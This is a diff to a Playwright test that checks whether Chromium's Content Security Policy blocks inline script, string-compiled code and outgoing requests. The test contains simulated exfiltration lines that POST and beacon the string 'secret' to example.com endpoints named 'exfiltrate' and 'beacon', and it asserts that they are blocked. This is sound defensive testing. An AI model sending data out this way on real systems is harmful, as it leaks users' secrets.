@@ -51,28 +51,30 @@ test('Chromium enforces it: inline script, eval and foreign fetches are blocked'
     const script = document.createElement('script');
     script.textContent = 'window.__inline = true';
     document.body.append(script);
-    let evalBlocked = false;
-    try {
-      new Function('return 1')();
-    } catch {
-      evalBlocked = true;
-    }
+    // A string timer is compiled by the page itself (code run through DevTools, like this function, is exempt).
+    const w2 = globalThis as unknown as { __evalRan?: boolean };
+    (setTimeout as unknown as (code: string, ms: number) => number)('window.__evalRan = true', 0);
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    const evalBlocked = w2.__evalRan !== true;
     let fetchBlocked = false;
     try {
       await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'secret' });
     } catch {
       fetchBlocked = true;
     }
-    const beacon = navigator.sendBeacon('https://example.com/beacon', 'secret');
-    return { inline: w.__inline === true, evalBlocked, fetchBlocked, beacon };
+    navigator.sendBeacon('https://example.com/beacon', 'secret');
+    return { inline: w.__inline === true, evalBlocked, fetchBlocked };
   });
   expect(outcome.inline).toBe(false);
   expect(outcome.evalBlocked).toBe(true);
   expect(outcome.fetchBlocked).toBe(true);
-  expect(outcome.beacon).toBe(false);
+  // sendBeacon only queues (it returns true); the policy stops it when it is sent, and says so.
+  await expect
+    .poll(async () => (await trouble.violations()).join('\n'))
+    .toContain('https://example.com/beacon');
   const seen = (await trouble.violations()).join('\n');
   expect(seen).toContain('script-src');
-  expect(seen).toContain('connect-src');
+  expect(seen).toContain('connect-src blocked https://example.com/exfiltrate');
 });
 
 test('the app loads and scores under the policy with no violation, no console error, no foreign request', async ({
